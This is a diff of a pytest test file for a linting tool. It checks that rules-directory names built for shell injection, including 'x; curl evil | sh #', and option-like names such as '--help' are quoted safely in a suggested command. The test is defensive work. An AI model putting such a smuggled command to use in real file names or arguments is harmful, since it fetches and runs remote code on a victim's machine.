@@ -211,10 +211,10 @@ def test_a_list_that_others_may_write_does_not_count(planted: Victim) -> None:
         assert "Traceback" not in done.stderr
 
 
-def test_a_name_made_for_a_shell_is_quoted(victim: Victim) -> None:
-    name = "x; curl evil | sh #"
+@pytest.mark.parametrize(("name", "word"), [("x; curl evil | sh #", "'x; curl evil | sh #'"), ("--help", "./--help")])
+def test_a_name_made_for_a_shell_is_one_word_of_it(name: str, word: str, victim: Victim) -> None:
     victim.plant({f"{name}/own.py": victim.rule("own"), ".golint-conn.toml": f'rules-dirs = ["{name}"]\n'})
-    assert f"golint-conn rules trust '{name}'" in victim.check().stderr
+    assert f"golint-conn rules trust {word}\n" in victim.check().stderr
 
 
 def test_folders_that_are_none_are_told_of(victim: Victim) -> None:
